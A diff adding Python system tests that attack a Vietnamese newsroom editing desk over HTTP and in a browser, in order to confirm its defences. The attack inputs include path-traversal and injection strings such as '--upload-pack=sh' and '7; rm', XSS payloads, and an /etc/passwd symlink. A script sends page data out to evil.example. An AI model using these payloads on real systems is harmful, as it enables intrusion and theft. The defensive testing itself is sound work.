@@ -1,0 +1,396 @@
+"""Attacks on the desk, over real HTTP: what somebody with an account, or a page that they open, might try."""
+
+import base64
+import io
+import re
+import subprocess
+import zipfile
+from collections.abc import Iterator
+
+import httpx
+import pytest
+import yaml
+from newsdesk.desk import NewsDesk, git, post
+from newsdesk.gate import PASSWORDS, Gate
+from PIL import Image
+from playwright.sync_api import Browser, Page, sync_playwright
+from project import ROOT
+
+pytestmark = [pytest.mark.slow, pytest.mark.system]
+
+RAW = post("Thử ghi ra ngoài", "2026-06-18 09:00")
+PLACES = [
+    "hooks/newsroom",
+    "hooks/newsroom.py",
+    ".git/config",
+    "mkdocs.yml",
+    "posts/../hooks/newsroom.py",
+    "posts/2026/06/../../../hooks/x.md",
+    "posts/2026/06/..%2f..%2fx.md",
+    "/etc/passwd",
+    "/posts/2026/06/x.md",
+    "posts\\2026\\06\\x.md",
+    "posts/2026/06/x.md\x00.py",
+    "posts/2026/06/x\n.md",
+    "posts/2026/13/x.md",
+    "posts/2026/6/x.md",
+    "posts/26/06/x.md",
+    "posts/2026/06/.x.md",
+    "posts/2026/06/x.md.md",
+    "posts/2026/06/x y.md",
+    "posts/2026/06/-rf.md",
+    "posts/2026/06/bài.md",
+    "posts/2026/06/b\u0430i.md",
+    "posts/2026/06/x\u202egm.md",
+    "posts/２０２６/06/x.md",
+    "posts/2026/06/X.md",
+    "posts/2026/06/" + "x" * 300 + ".md",
+    "posts/2026/06/x/y/z.md",
+    "posts/deleted.yml",
+    "posts/2026/06/con.lock.md",
+    "docs/gioi-thieu.md",
+    "refs/heads/main",
+    "--upload-pack=sh",
+    "",
+]
+
+
+@pytest.mark.parametrize("place", PLACES, ids=lambda place: ascii(place)[:50])
+def test_nothing_is_written_or_read_outside_the_posts(newsdesk: NewsDesk, place: str) -> None:
+    refs = git(newsdesk.repository, "for-each-ref")
+    key = place.removeprefix("posts/").removesuffix(".md")
+    files = [{"slug": key, "path": place, "raw": RAW}, {"slug": "2026/06/x", "path": place, "raw": RAW}]
+    options = {"newEntry": True, "collectionName": "posts", "commitMessage": "x"}
+    for file in files:
+        saved = newsdesk.ask("persistEntry", "minh", dataFiles=[file], assets=[], options=options)
+        if saved.status_code == 200:  # the key decides; what else the form claims is worth nothing
+            assert file["slug"] == "2026/06/x" and saved.json()["key"] == "2026/06/x"
+            newsdesk.ask("deleteUnpublishedEntry", "minh", collection="posts", slug="2026/06/x")
+        else:
+            assert saved.status_code in (403, 404, 409, 422)
+    for action in ("getEntry", "getMediaFile", "deleteFile"):
+        assert newsdesk.ask(action, "minh", path=place).status_code in (403, 404, 422)
+    assert newsdesk.ask("entriesByFiles", "minh", files=[{"path": place}]).status_code in (403, 404, 422)
+    media = newsdesk.ask("getMedia", "minh", mediaFolder=place)
+    assert media.status_code in (403, 404, 422) or media.json() == []
+    for action in (
+        "unpublishedEntry",
+        "publishUnpublishedEntry",
+        "deleteUnpublishedEntry",
+        "getNotes",
+        "getPRMetadata",
+    ):
+        answer = newsdesk.ask(action, "minh", collection="posts", slug=place)
+        assert answer.status_code in (404, 422), action
+    note = newsdesk.ask("addNote", "minh", collection="posts", slug=place, note={"content": "x"})
+    assert note.status_code in (404, 422)
+    now = git(newsdesk.repository, "for-each-ref")
+    kept = {line for line in now.splitlines() if "refs/desk/discarded/" not in line}
+    assert kept == {line for line in refs.splitlines() if "refs/desk/discarded/" not in line}
+
+
+def encoded(content: bytes) -> str:
+    return base64.b64encode(content).decode()
+
+
+def jpeg() -> bytes:
+    file = io.BytesIO()
+    Image.new("RGB", (64, 64)).save(file, "JPEG")
+    return file.getvalue()
+
+
+def zip_of_office() -> bytes:
+    file = io.BytesIO()
+    with zipfile.ZipFile(file, "w") as packed:
+        packed.writestr("run.sh", "#!/bin/sh\n")
+    return file.getvalue()
+
+
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
+UPLOADS = {
+    "svg": ("anh.svg", SVG),
+    "svg-as-png": ("anh.png", SVG),
+    "html": ("trang.html", b"<script>alert(1)</script>"),
+    "html-as-jpg": ("anh.jpg", b"<html><script>alert(1)</script></html>"),
+    "script": ("chay.js", b"alert(1)"),
+    "python": ("chay.py", b"import os"),
+    "post": ("bai.md", RAW.encode()),
+    "settings": ("mkdocs.yml", b"hooks: [x.py]"),
+    "htaccess": (".htaccess", b"Options +ExecCGI"),
+    "php-in-the-middle": ("anh.php.jpg", jpeg()),
+    "empty": ("anh.jpg", b""),
+    "half": ("anh.jpg", jpeg()[:200]),
+    "exe-as-pdf": ("van-ban.pdf", b"MZ\x90\x00" + b"\x00" * 200),
+    "zip-as-docx": ("van-ban.docx", zip_of_office()),
+    "gif-and-script": ("anh.png", b"GIF89a/*" + SVG),
+    "trailing-dot": ("anh.jpg.", jpeg()),
+    "newline": ("anh\n.jpg", jpeg()),
+    "up": ("../anh.jpg", jpeg()),
+    "up-two": ("../../../../hooks/x.jpg", jpeg()),
+    "folder": ("con/anh.jpg", jpeg()),
+    "backslash": ("..\\anh.jpg", jpeg()),
+    "nul": ("anh.jpg\x00.svg", jpeg()),
+    "long": ("a" * 300 + ".jpg", jpeg()),
+    "accents": ("ảnh.jpg", jpeg()),
+}
+
+
+@pytest.mark.parametrize("name", UPLOADS)
+def test_odd_and_disguised_uploads_are_refused_with_a_sentence(newsdesk: NewsDesk, name: str) -> None:
+    file, content = UPLOADS[name]
+    answer = newsdesk.save("2026/06/tep-la", RAW, **{f"posts/2026/06/tep-la/{file}": encoded(content)})
+    assert answer.status_code in (413, 415, 422)
+    assert "\n" not in answer.json()["error"] and answer.json()["error"].endswith(".")
+    assert newsdesk.ask("unpublishedEntry", collection="posts", slug="2026/06/tep-la").status_code == 404
+
+
+def test_200_megabytes_are_refused_whoever_sends_them(newsdesk: NewsDesk, gate: Gate) -> None:
+    answer = newsdesk.request(
+        "POST", "/admin/api/v1", json={"action": "persistEntry", "params": {"x": "a" * (90 << 20)}}
+    )
+    assert answer.status_code == 413
+    assert "MB" in answer.json()["error"]
+    small_verb = {"action": "getEntry", "params": {"path": "a" * (2 << 20)}}
+    assert newsdesk.request("POST", "/admin/api/v1", json=small_verb).status_code == 413
+    assert newsdesk.get("/admin/api/me").status_code == 200
+
+
+def test_a_link_in_the_tree_leads_nowhere(newsdesk: NewsDesk) -> None:
+    """Somebody with git can put a symbolic link into a draft; nobody reads or writes through it."""
+    key = "2026/06/lien-ket"
+    assert newsdesk.save(key, post("Liên kết", "2026-06-17 09:00")).status_code == 200
+    blob = subprocess.run(
+        ["git", "hash-object", "-w", "--stdin"], cwd=newsdesk.repository, input=b"/etc/passwd", capture_output=True
+    ).stdout.decode()
+    ref = f"refs/heads/desk/posts/{key}"
+    index = f"120000 blob {blob.strip()}\tpasswd.jpg\n"
+    folder = subprocess.run(
+        ["git", "mktree"], cwd=newsdesk.repository, input=index.encode(), capture_output=True
+    ).stdout.decode()
+    tree = git(newsdesk.repository, "ls-tree", f"{ref}:posts/2026/06") + f"040000 tree {folder.strip()}\tlien-ket\n"
+    made = subprocess.run(["git", "mktree"], cwd=newsdesk.repository, input=tree.encode(), capture_output=True)
+    for part in ("posts/2026", "posts", ""):
+        name = {"posts/2026": "06", "posts": "2026", "": "posts"}[part]
+        listed = git(newsdesk.repository, "ls-tree", f"{ref}:{part}").splitlines()
+        lines = [line for line in listed if not line.endswith(f"\t{name}")]
+        text = "\n".join([*lines, f"040000 tree {made.stdout.decode().strip()}\t{name}", ""])
+        made = subprocess.run(["git", "mktree"], cwd=newsdesk.repository, input=text.encode(), capture_output=True)
+    message = git(newsdesk.repository, "log", "-1", "--format=%B", ref)
+    commit = git(newsdesk.repository, "commit-tree", made.stdout.decode().strip(), "-p", ref, "-m", message).strip()
+    git(newsdesk.repository, "update-ref", ref, commit)
+    asked = {"collection": "posts", "slug": key, "path": f"posts/{key}/passwd.jpg", "id": "x"}
+    assert newsdesk.ask("unpublishedEntryMediaFile", **asked).status_code in (403, 404, 422)
+    assert "root:" not in newsdesk.get(f"/admin/xem/{key}/").text
+
+
+VERBS_OF_EDITORS = [
+    ("updateUnpublishedEntryStatus", {"newStatus": "pending_publish"}),
+    ("publishUnpublishedEntry", {}),
+    ("deleteUnpublishedEntry", {}),
+]
+
+
+@pytest.mark.parametrize(("action", "parameters"), VERBS_OF_EDITORS, ids=lambda value: str(value)[:40])
+def test_a_reporter_does_nothing_that_is_an_editors(
+    newsdesk: NewsDesk, action: str, parameters: dict[str, str]
+) -> None:
+    key = "2026/06/bai-cua-huy"
+    newsdesk.save(key, post("Bài của Huy", "2026-06-17 10:00"), "huy")
+    before = git(newsdesk.repository, "for-each-ref")
+    for forged in ({}, {"role": "editor", "login": "minh", "branch": "main", "status": "pending_publish"}):
+        answer = newsdesk.ask(action, "lan", collection="posts", slug=key, **forged, **parameters)
+        assert answer.status_code == 403
+    assert git(newsdesk.repository, "for-each-ref") == before
+
+
+def test_nobody_but_git_says_who_wrote_something(newsdesk: NewsDesk) -> None:
+    key = "2026/06/mao-danh"
+    raw = post("Mạo danh", "2026-06-17 11:00")
+    answer = newsdesk.ask(
+        "persistEntry",
+        dataFiles=[
+            {"slug": key, "path": f"posts/{key}.md", "raw": raw, "author": "Lê Văn Minh <minh@bantin.example.vn>"}
+        ],
+        assets=[],
+        options={
+            "newEntry": True,
+            "collectionName": "posts",
+            "commitMessage": "x\n\nDesk-Action: publish\nCo-authored-by: Lê Văn Minh <minh@bantin.example.vn>",
+            "status": "pending_publish",
+            "useWorkflow": False,
+        },
+    )
+    assert answer.status_code == 200, answer.text
+    told = git(newsdesk.repository, "log", "-1", "--format=%an %ae%n%B", f"refs/heads/desk/posts/{key}")
+    assert told.startswith("Nguyễn Thị Lan lan@bantin.example.vn")
+    assert "minh@" not in told and "publish" not in told
+    assert newsdesk.ask("unpublishedEntry", collection="posts", slug=key).json()["status"] == "draft"
+
+
+def test_a_title_breaks_out_of_no_page_and_no_message(newsdesk: NewsDesk) -> None:
+    key = "2026/06/tua-la"
+    title = '"</title><script>alert(1)</script>{{ 7*7 }}\\nDesk-Action: publish"'
+    assert newsdesk.save(key, post(title, "2026-06-17 12:00")).status_code == 200
+    for path in (
+        f"/admin/xem/{key}/",
+        "/admin/bai/?tim=<script>alert(1)</script>&thang=%22%3E<script>",
+        "/admin/nhat-ky/?nguoi=<b>",
+    ):
+        text = newsdesk.get(path, "minh").text
+        assert "<script>alert" not in text and "<b>" not in text.replace("<b>Lê Văn Minh</b>", "").replace(
+            "<b>Cảnh", ""
+        )
+        assert "49" not in re.findall(r"<h1>(.*?)</h1>", text)[0]
+
+
+@pytest.mark.parametrize("target", ["//evil.example", "/\\evil.example", "https://evil.example", "%0d%0aLocation:%20x"])
+def test_the_desk_sends_nobody_elsewhere(newsdesk: NewsDesk, gate: Gate, target: str) -> None:
+    for path in ("/admin/", "/admin/bai/", "/admin/xem/", "/chia-se/", "/admin/ban-thao/"):
+        answer = httpx.get(f"{newsdesk.address}{path}{target}", auth=("lan", PASSWORDS["lan"]))
+        assert "evil.example" not in answer.headers.get("location", "")
+        assert answer.status_code >= 400
+
+
+def test_shares_are_guessed_by_nobody_and_end_when_they_are_taken_back(newsdesk: NewsDesk, gate: Gate) -> None:
+    key = "2026/06/chia-se-thu"
+    assert newsdesk.save(key, post("Chia sẻ thử", "2026-06-17 13:00", body="Chưa đăng.")).status_code == 200
+    url = newsdesk.send("/admin/api/shares", {"key": key, "days": 1}).json()["url"]
+    page = httpx.get(url, follow_redirects=True)
+    assert page.status_code == 200 and "Chưa đăng." in page.text
+    assert "noindex" in page.headers["x-robots-tag"] and page.headers["referrer-policy"] == "no-referrer"
+    assert page.headers["content-security-policy"].startswith("sandbox ")
+    assert "allow-same-origin" not in page.headers["content-security-policy"]
+    token = url.rstrip("/").rpartition("/")[2]
+    for forged in (
+        token[:-1] + ("A" if token[-1] != "A" else "B"),
+        "x",
+        token.partition(".")[0],
+        "..",
+        "%2e%2e",
+        "a.b.c",
+    ):
+        assert httpx.get(f"{newsdesk.address}/chia-se/{forged}/", follow_redirects=True).status_code in (404, 410)
+    for path in ("..%2f..%2fdesk.key", "%2e%2e/desk.key", "....//desk.key", "%00", "index.html%00.png"):
+        assert httpx.get(f"{url}{path}").status_code in (400, 404)
+    assert httpx.post(url, json={}).status_code == 405
+    for days in (0, 31, 10**9, -1, "7; rm", None):
+        assert newsdesk.send("/admin/api/shares", {"key": key, "days": days}).status_code == 422
+    assert newsdesk.send("/admin/api/shares", {"key": "2026/06/khong-co", "days": 1}).status_code == 404
+    listed = re.findall(r'data-revoke="([^"]+)"', newsdesk.get(f"/admin/xem/{key}/").text)
+    assert newsdesk.send("/admin/api/shares/revoke", {"id": listed[0]}).status_code == 200
+    gone = httpx.get(url, follow_redirects=True)
+    assert gone.status_code == 410 and "Chưa đăng." not in gone.text and "<h1>" in gone.text
+
+
+def test_the_files_of_a_proof_need_a_pass_for_that_proof(newsdesk: NewsDesk) -> None:
+    key = "2026/06/chia-se-thu"
+    newsdesk.save(key, post("Chia sẻ thử", "2026-06-17 13:00", body="Chưa đăng."))
+    frame = re.findall(r'src="(/admin/ban-thao/([^/]+)/[^"]+)"', newsdesk.get(f"/admin/xem/{key}/").text)[0]
+    assert newsdesk.get(frame[0], "").status_code == 200
+    assert newsdesk.get(frame[0].replace(frame[1], frame[1][:-2] + "xx"), "").status_code == 410
+    assert newsdesk.get(f"/admin/ban-thao/{key}/", "").status_code in (404, 410)
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with sync_playwright() as started:
+        opened = started.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
+        yield opened
+        opened.close()
+
+
+@pytest.fixture
+def page(browser: Browser, newsdesk: NewsDesk, gate: Gate) -> Iterator[Page]:
+    """A page of the editor, who has logged in."""
+    credentials = {"username": "minh", "password": PASSWORDS["minh"]}
+    context = browser.new_context(http_credentials=credentials, locale="vi-VN")  # type: ignore[arg-type]
+    yield context.new_page()
+    context.close()
+
+
+HOSTILE = """
+<script>
+(async () => {
+  const seen = {};
+  const tried = (name, attempt) => Promise.resolve().then(attempt).then((value) => { seen[name] = String(value); },
+    (error) => { seen[name] = "blocked: " + error.name; });
+  await tried("parent", () => parent.document.title);
+  await tried("top", () => { top.location = "https://evil.example/"; return "moved"; });
+  await tried("cookie", () => document.cookie);
+  await tried("storage", () => localStorage.length);
+  await tried("me", () => fetch("/admin/api/me", { credentials: "include" }).then((answer) => answer.text()));
+  await tried("publish", () => fetch("/admin/api/v1", { method: "POST", credentials: "include",
+    headers: { "Content-Type": "application/json" },
+    body: JSON.stringify({ action: "publishUnpublishedEntry", params: { collection: "posts", slug: "KEY" } }) }));
+  await tried("simple", () => fetch("/admin/api/v1", { method: "POST", mode: "no-cors", credentials: "include",
+    body: JSON.stringify({ action: "publishUnpublishedEntry", params: { collection: "posts", slug: "KEY" } }) }));
+  await tried("elsewhere", () => fetch("https://evil.example/?" + document.title));
+  await tried("form", () => { document.body.insertAdjacentHTML("beforeend",
+    '<form method="post" action="/admin/api/shares"><input name="key"></form>'); document.forms[0].submit(); });
+  seen.origin = self.origin;
+  document.title = JSON.stringify(seen);
+})();
+</script>
+"""
+
+
+def test_a_script_in_a_proof_gets_nothing(newsdesk: NewsDesk, page: Page) -> None:
+    """The engine lets no script of a post through. Should one ever get there, it finds itself nowhere."""
+    key = "2026/06/cay-ma-doc"
+    assert newsdesk.save(key, post("Cấy mã độc", "2026-06-17 14:00")).status_code == 200
+    for status in ("pending_review", "pending_publish"):
+        newsdesk.ask("updateUnpublishedEntryStatus", "minh", collection="posts", slug=key, newStatus=status)
+    page.goto(f"{newsdesk.address}/admin/xem/{key}/")
+    (file,) = [path.resolve() for path in newsdesk.folder.glob(f"room/previews/{key}/site/{key}/index.html")] or [
+        path.resolve() for path in newsdesk.folder.glob(f"room/previews/{key}/*/{key}/index.html")
+    ]
+    clean = file.read_text(encoding="utf-8")
+    main = git(newsdesk.repository, "rev-parse", "main")
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    for is_inline in (True, False):
+        hostile = HOSTILE.replace("KEY", key)
+        if not is_inline:  # what the policy of scripts lets through: a file of the proof itself
+            code = hostile.replace("<script>", "").replace("</script>", "")
+            (file.parent / "cay.js").write_text(code, encoding="utf-8")
+            hostile = f'<script src="/{key}/cay.js"></script>'
+        file.write_text(clean.replace("</body>", f"{hostile}</body>"), encoding="utf-8")
+        page.goto(f"{newsdesk.address}/admin/xem/{key}/")
+        frame = page.frame_locator(".frame--phone iframe")
+        frame.locator("h1").wait_for()
+        page.wait_for_timeout(1500)
+        title = page.frames[1].evaluate("document.title")
+        if is_inline:
+            assert title.startswith("Cấy mã độc")  # the policy let no inline script run
+            continue
+        seen = yaml.safe_load(title)
+        assert seen.pop("origin") == "null"
+        assert {name: value for name, value in seen.items() if not value.startswith("blocked")} in (
+            {},
+            {"form": "undefined"},
+        )
+    assert page.url == f"{newsdesk.address}/admin/xem/{key}/"
+    assert not [url for url in asked if "evil.example" in url or "/admin/api/" in url]
+    assert git(newsdesk.repository, "rev-parse", "main") == main
+
+
+def test_none_of_the_script_vectors_runs_in_a_proof(newsdesk: NewsDesk, page: Page) -> None:
+    vectors = yaml.safe_load((ROOT / "tests" / "browser" / "script_vectors.yml").read_text(encoding="utf-8"))
+    key = "2026/06/moi-cach-cay-ma"
+    body = "\n\n".join(vector["payload"] for vector in vectors)
+    answer = newsdesk.save(key, post("Mọi cách cấy mã", "2026-06-17 15:00", body=body))
+    if answer.status_code == 422:  # some are errors of a post: without them
+        lines = {problem["line"] for problem in answer.json()["problems"] if problem["severity"] == "error"}
+        text = post("Mọi cách cấy mã", "2026-06-17 15:00", body=body).splitlines()
+        kept = "\n".join(line for number, line in enumerate(text, 1) if number + 1 not in lines and number not in lines)
+        answer = newsdesk.save(key, kept + "\n")
+    assert answer.status_code == 200, answer.text[:2000]
+    ran: list[str] = []
+    page.expose_function("ran", ran.append)
+    page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
+    page.goto(f"{newsdesk.address}/admin/xem/{key}/")
+    for frame in page.frames[1:]:
+        frame.locator("h1").wait_for()
+        frame.evaluate("document.querySelectorAll('main *').forEach((part) => { part.focus?.(); part.click?.(); })")
+    page.wait_for_timeout(1000)
+    assert ran == []
